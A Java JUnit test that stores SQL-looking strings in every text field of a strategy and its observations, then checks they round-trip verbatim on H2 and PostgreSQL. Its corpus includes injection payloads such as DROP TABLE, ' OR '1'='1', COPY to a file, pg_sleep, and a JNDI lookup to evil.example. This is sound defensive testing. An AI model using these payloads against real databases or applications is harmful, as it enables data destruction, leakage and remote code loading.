package eu.strateg.persistence.jdbc.reliability;

import static org.assertj.core.api.Assertions.assertThat;

import eu.strateg.core.observation.Observation;
import eu.strateg.core.observation.ObservationQuery;
import eu.strateg.core.strategy.Element;
import eu.strateg.core.strategy.Strategy;
import eu.strateg.persistence.jdbc.reliability.Databases.Engine;
import eu.strateg.testkit.ExampleStrategies;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/**
 * Text that looks like SQL (quotes, comments, statement separators, a NUL-free COPY escape, LIKE wildcards) in every
 * text field of a strategy and its observations comes back verbatim from H2 and PostgreSQL, and the tables are intact.
 */
class SqlLookingTextTest {

    static final List<String> CORPUS = List.of("Robert'); DROP TABLE strategy;--", "' OR '1'='1", "\"; DELETE FROM observation; --",
            "1; SELECT pg_sleep(10)", "/* comment */ x", "-- comment", "\\.", "\\N", "a\\tb\\nc", "100% _under_score_", "$$dollar$$",
            "E'\\x41'", "';COPY strategy TO '/tmp/x';--", "\t\ttabs\tand\nnewlines\r\n", "ž'č\"ř`ł´", "${jndi:ldap://evil.example/a}");

    @ParameterizedTest
    @EnumSource(Engine.class)
    void sqlLookingTextRoundTripsVerbatim(Engine engine) {
        try (Databases.Opened db = Databases.open(engine)) {
            Strategy base = ExampleStrategies.smallTown();
            int[] n = {0};
            java.util.function.Supplier<String> text = () -> CORPUS.get(n[0]++ % CORPUS.size());
            List<Element> elements = new ArrayList<>();
            for (Element e : base.elements()) {
                elements.add(new Element(e.code(), e.parentCode(), e.kind(), text.get(), text.get(), text.get(), e.weight(), e.indicatorCodes(),
                        e.links()));
            }
            Strategy hostile = base.withTitle(text.get()).withVision(text.get()).withElements(elements);
            Strategy saved = db.jdbc().strategies().save(hostile, 0);
            List<Observation> observations = new ArrayList<>();
            for (int i = 0; i < CORPUS.size(); i++) {
                observations.add(Observation.of("CYC-KM", String.valueOf(2000 + i), "1.5").withSource(CORPUS.get(i), CORPUS.get(i))
                        .withDisaggregation(Map.of("district", CORPUS.get(i))));
            }
            db.jdbc().observations().upsert(saved.id(), observations);

            assertThat(db.jdbc().strategies().find(saved.id())).contains(saved);
            assertThat(saved.title()).isEqualTo(hostile.title());
            List<Observation> read = db.jdbc().observations().find(ObservationQuery.all(saved.id()));
            assertThat(read).hasSize(CORPUS.size());
            assertThat(read).extracting(Observation::source).containsExactlyInAnyOrderElementsOf(CORPUS);
            assertThat(read).extracting(o -> o.disaggregation().get("district")).containsExactlyInAnyOrderElementsOf(CORPUS);
            assertThat(db.jdbc().strategies().history(saved.id())).hasSize(1);
        }
    }
}
